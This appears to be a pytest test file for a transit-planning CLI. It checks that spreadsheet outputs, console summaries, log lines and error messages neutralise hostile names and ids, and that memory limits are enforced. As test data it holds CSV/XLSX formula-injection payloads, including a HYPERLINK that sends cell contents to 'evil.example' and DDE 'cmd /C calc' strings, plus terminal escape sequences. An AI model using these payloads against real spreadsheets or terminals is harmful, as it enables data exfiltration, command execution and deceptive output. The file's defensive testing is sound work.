"""Hostile names and ids through the whole CLI (the Helsinki extract's own points, renamed):
no spreadsheet cell becomes a formula, a character XLSX cannot hold does not stop the run,
and no control character reaches the terminal raw, in the summary, a log line or an error.

The runner is told the terminal takes colour (``color=True``): click strips ANSI colour
codes from what it echoes to anything else, which would hide a raw escape from the test.
"""

from __future__ import annotations

import csv
import json
import logging

import numpy as np
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from planner import pipeline
from planner.cli import handle_errors, main, setup
from planner.core import memory
from planner.core.errors import InputError
from planner.inputs import demand
from planner.inputs import network as network_mod
from planner.outputs.safe_text import FORMULA_START

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
#: Recolours the terminal, retitles its window, rings its bell, reverses the text after it.
ANSI = "\x1b[31mX\x1b]0;pwned\x07\u202e"
ANSI_SHOWN = "\\x1b[31mX\\x1b]0;pwned\\x07\\u202e"
RAW = ("\x1b", "\x07", "\u202e", "\r")


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory, helsinki_pbf):
    """Stations named like formulas, hotspot ids like formulas, and candidates whose every
    name is a formula that also holds an escape and a bell (characters XLSX cannot hold)."""
    d = tmp_path_factory.mktemp("hostile")
    _, *points = pipeline.demo_inputs(helsinki_pbf)
    hs, st, cand = (pd.DataFrame(f.drop(columns="geometry")) for f in points)
    hs["id"] = hs["id"].astype(object)
    hs.loc[0, "id"], hs.loc[1, "id"] = "=cmd|' /C calc'!A0", "-2+3"
    st["name"] = [FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd"][: len(st)]
    cand = cand.head(30).copy()
    cand["name"] = [f"{FORMULA[:-1]}{i}\x1b[31m\x07" for i in range(len(cand))]
    for name, frame in (("hotspots", hs), ("stations", st), ("candidates", cand)):
        frame.to_csv(d / f"{name}.csv", index=False)
    return d


def _plan(files, network, out, *, stations=None):
    """``planner plan --quiet`` on the hostile files, walking (``stations``: another file)."""
    args = ["plan", "--quiet", "--network", network, "--hotspots", files / "hotspots.csv",
            "--stations", stations or files / "stations.csv",
            "--candidates", files / "candidates.csv", "--mode", "walk", "--add", "2",
            "--travel-times", "csv", "--out", out]  # fmt: skip
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False, color=True)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, hostile_files, helsinki_pbf):
    out = tmp_path_factory.mktemp("hostile_out")
    return _plan(hostile_files, helsinki_pbf, out), out


def _csv_rows(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_bell_in_a_candidate_name_does_not_stop_the_run(hostile_run):
    res, out = hostile_run
    assert res.exit_code == 0, res.output
    rows = list(openpyxl.load_workbook(out / "recommended_sites.xlsx")["recommended_sites"].values)
    names = [r[rows[0].index("name")] for r in rows[1:]]
    assert len(names) == 2
    assert all(n.startswith(FORMULA[:-1]) and n.endswith("\ufffd[31m\ufffd") for n in names)


def test_no_csv_cell_starts_like_a_formula(hostile_run):
    res, out = hostile_run
    assert res.exit_code == 0, res.output
    written = sorted(out.glob("*.csv"))
    assert {"stations_scored.csv", "recommended_sites.csv", "travel_times.csv", "snapping.csv",
            "blind_spots.csv", "coverage_curve.csv"} <= {p.name for p in written}  # fmt: skip
    for path in written:
        for row in _csv_rows(path):
            bad = [c for c in row if c.startswith(FORMULA_START) and not _is_number(c)]
            assert not bad, (path.name, bad)
    scored = _csv_rows(out / "stations_scored.csv")
    names = {r[scored[0].index("name")] for r in scored[1:]}
    assert {"'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0", "'+cmd"} <= names
    rec = _csv_rows(out / "recommended_sites.csv")
    assert all(r[rec[0].index("name")].startswith("'" + FORMULA[:-1]) for r in rec[1:])
    snapped = {r[1] for r in _csv_rows(out / "snapping.csv")[1:]}
    assert {"'=cmd|' /C calc'!A0", "'-2+3"} <= snapped


def test_no_xlsx_cell_is_a_formula_and_numbers_stay_numbers(hostile_run):
    res, out = hostile_run
    assert res.exit_code == 0, res.output
    book = openpyxl.load_workbook(out / "recommended_sites.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    rows = list(book["recommended_sites"].iter_rows())
    header = [c.value for c in rows[0]]
    for column in ("rank", "lon", "lat", "demand_added_8", "cumulative_share_8"):
        values = [r[header.index(column)] for r in rows[1:]]
        assert all(c.data_type == "n" and isinstance(c.value, int | float) for c in values)
    rec = pd.read_csv(out / "recommended_sites.csv", encoding="utf-8-sig")
    assert rec["lon"].dtype == float and rec["rank"].tolist() == [1, 2]


def test_the_summary_on_the_console_shows_controls_escaped(hostile_run):
    res, _ = hostile_run
    assert res.exit_code == 0, res.output
    assert not [ch for ch in RAW if ch in res.stdout]
    assert "\\x1b[31m\\x07 (" in res.stdout  # the site names, escaped, before their ids


def test_a_log_warning_shows_an_id_escaped(tmp_path, hostile_files, helsinki_pbf):
    """A station 3 km from every road is excluded, and its id is named in a warning."""
    st = pd.read_csv(hostile_files / "stations.csv")
    st["id"] = st["id"].astype(object)
    st.loc[0, "id"] = ANSI
    st.loc[0, "lon"] += 0.05
    st.to_csv(tmp_path / "far.csv", index=False)
    res = _plan(hostile_files, helsinki_pbf, tmp_path / "out", stations=tmp_path / "far.csv")
    assert res.exit_code == 0, res.output
    warning = [line for line in res.stderr.splitlines() if line.startswith("WARNING")]
    assert any(line.endswith(f"excluded: {ANSI_SHOWN}") for line in warning), res.stderr
    assert not [ch for ch in RAW if ch in res.stderr]


def test_an_error_line_shows_a_path_escaped_on_one_line(tmp_path, hostile_files, helsinki_pbf):
    """A folder that cannot be made (under a file with a hostile name): the OS error names
    the file."""
    blocker = tmp_path / f"{ANSI}\nnext"
    blocker.write_text("x")
    res = _plan(hostile_files, helsinki_pbf, blocker / "out")
    assert res.exit_code == 2
    lines = res.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), res.stderr
    assert f"{ANSI_SHOWN}\\nnext" in lines[0]
    assert not [ch for ch in RAW if ch in res.stderr]


def test_duplicate_ids_with_an_escape_are_named_escaped(tmp_path, hostile_files, helsinki_pbf):
    st = pd.read_csv(hostile_files / "stations.csv")
    st["id"] = st["id"].astype(object)
    st.loc[:1, "id"] = "\x1b[31mX"
    st.to_csv(tmp_path / "dup.csv", index=False)
    res = _plan(hostile_files, helsinki_pbf, tmp_path / "out", stations=tmp_path / "dup.csv")
    assert res.exit_code == 2
    assert "duplicate id '\\x1b[31mX'" in res.stderr and "\x1b" not in res.stderr


def test_an_error_message_is_one_escaped_line(capsys):
    @handle_errors
    def fail() -> None:
        raise InputError(f"stations file: name {ANSI}\nsecond line")

    with pytest.raises(SystemExit) as exit_:
        fail()
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert err == f"error: stations file: name {ANSI_SHOWN}\\nsecond line\n"


def test_every_log_record_is_one_escaped_line(capsys):
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        setup(quiet=False, verbose=False)
        logging.getLogger("planner.test").warning("id %s\nforged: INFO all fine", ANSI)
        err = capsys.readouterr().err
    finally:
        root.handlers[:], root.level = handlers, level
    assert err == f"WARNING planner.test: id {ANSI_SHOWN}\\nforged: INFO all fine\n"


# --------------------------------------------------------------------------- memory


def _refused(res, out) -> str:
    """The one error line of a run refused before any work (nothing written to ``out``)."""
    assert res.exit_code == 2, res.output
    lines = res.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), res.stderr
    assert "Traceback" not in res.output and not out.exists()
    return lines[0]


def _no_network(monkeypatch):
    """A run refused before its network is read: reading it fails the test."""

    def load(*_a, **_k):
        raise AssertionError("the network was read")

    monkeypatch.setattr(network_mod, "load", load)


def test_six_million_hotspots_are_refused_at_once(tmp_path, hostile_files, helsinki_pbf,
                                                  monkeypatch):  # fmt: skip
    """6.6 million rows (written cheaply: one row repeated) with the default limit: one
    error line saying how many hotspots, the limit and the fixes, before the file is
    parsed or the network read; never numpy's MemoryError."""
    monkeypatch.delenv(memory.ENV_VAR, raising=False)
    _no_network(monkeypatch)
    monkeypatch.setattr(demand, "read_hotspots", lambda *a, **k: pytest.fail("file parsed"))
    big = tmp_path / "pings_as_hotspots.csv"
    big.write_bytes(b"lon,lat,weight\n" + b"24.94,60.17,1\n" * 6_600_000)
    out = tmp_path / "out"
    res = CliRunner().invoke(main, ["plan", "--quiet", "--network", helsinki_pbf,
                                    "--hotspots", str(big), "--stations", "none",
                                    "--candidates", str(hostile_files / "candidates.csv"),
                                    "--out", str(out)])  # fmt: skip
    line = _refused(res, out)
    assert line.startswith(f"error: hotspots file {str(big)!r}: 6,600,000 hotspots need about ")
    assert f"above the limit of {memory.DEFAULT_GIB:g} GiB" in line
    assert "planner hotspots" in line and "in parts" in line
    assert f"--memory-gib (or the environment variable {memory.ENV_VAR})" in line


@pytest.mark.parametrize("how", ["flag", "env"])
def test_a_run_above_a_lowered_limit_is_refused(tmp_path, hostile_files, helsinki_pbf,
                                                monkeypatch, how):  # fmt: skip
    """2,000 hotspots against a limit that leaves room for 1,000: refused, by the flag or
    by the environment variable."""
    limit = (memory.BASE_BYTES + 1_000.5 * memory.HOTSPOT_BYTES) / memory.GIB  # .5: rounding
    _no_network(monkeypatch)
    rows = pd.DataFrame({"lon": 24.94 + np.arange(2_000) * 1e-5, "lat": 60.17, "weight": 1})
    rows.to_csv(tmp_path / "hs.csv", index=False)
    args = ["plan", "--quiet", "--network", helsinki_pbf, "--hotspots", str(tmp_path / "hs.csv"),
            "--stations", "none", "--candidates", str(hostile_files / "candidates.csv"),
            "--out", str(tmp_path / "out")]  # fmt: skip
    if how == "flag":
        monkeypatch.delenv(memory.ENV_VAR, raising=False)
        args += ["--memory-gib", f"{limit:.9f}"]
    else:
        monkeypatch.setenv(memory.ENV_VAR, f"{limit:.9f}")
    line = _refused(CliRunner().invoke(main, args), tmp_path / "out")
    assert ": 2,000 hotspots need about 0.4 GiB of memory, above the limit of " in line
    assert "(at most about 1,000 hotspots fit)" in line


def test_a_limit_that_is_not_a_number_is_one_error_line(tmp_path, hostile_files, helsinki_pbf,
                                                        monkeypatch):  # fmt: skip
    monkeypatch.setenv(memory.ENV_VAR, "lots")
    res = _plan(hostile_files, helsinki_pbf, tmp_path / "out")
    line = _refused(res, tmp_path / "out")
    assert line == (
        f"error: {memory.ENV_VAR}: 'lots' is not a positive number of GiB; give the memory "
        "the run may use, such as 8"
    )
    monkeypatch.delenv(memory.ENV_VAR)
    args = ["plan", "--network", helsinki_pbf, "--hotspots", "osm", "--stations", "none",
            "--candidates", "osm", "--memory-gib", "-1", "--out", str(tmp_path / "o")]  # fmt: skip
    res = CliRunner().invoke(main, args)
    assert _refused(res, tmp_path / "o").startswith("error: --memory-gib: '-1' is not a ")


def test_a_memory_error_is_one_clean_line(capsys):
    """The machine running short beyond the estimate: numpy's message, on one line, with
    the fixes, exit status 2, no traceback."""

    @handle_errors
    def fail() -> None:
        raise MemoryError(
            "Unable to allocate 4.00 GiB for an array with shape (6600000, 81) and data "
            "type float64"
        )

    with pytest.raises(SystemExit) as exit_:
        fail()
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith(
        "error: the machine ran out of memory (Unable to allocate 4.00 GiB for an array "
        "with shape (6600000, 81) and data type float64); aggregate the points"
    )
    assert "--memory-gib" in err and "Traceback" not in err


def test_a_bare_memory_error_is_named_too(capsys):
    @handle_errors
    def fail() -> None:
        raise MemoryError

    with pytest.raises(SystemExit):
        fail()
    assert capsys.readouterr().err.startswith(
        "error: the machine ran out of memory (an allocation failed); "
    )


def test_every_json_file_of_the_set_is_strict(hostile_run):
    """No NaN or Infinity in any JSON file of the set (summary, manifest, timings and every
    GeoJSON): a hotspot beyond every circle has a null nearest time, not NaN."""
    _, out = hostile_run

    def refuse(constant: str) -> None:
        raise AssertionError(f"not strict JSON: {constant}")

    names = sorted(p.name for p in out.iterdir() if p.suffix in (".json", ".geojson"))
    assert {"summary.json", "manifest.json", "timings.json", "blind_spots.geojson"} <= set(names)
    for name in names:
        json.loads((out / name).read_text(encoding="utf-8"), parse_constant=refuse)
    blind = pd.read_csv(out / "blind_spots.csv", encoding="utf-8-sig")
    features = json.loads((out / "blind_spots.geojson").read_text(encoding="utf-8"))["features"]
    unreached = [f for f in features if f["properties"]["nearest_minutes"] is None]
    assert len(unreached) == int(blind["nearest_minutes"].isna().sum())
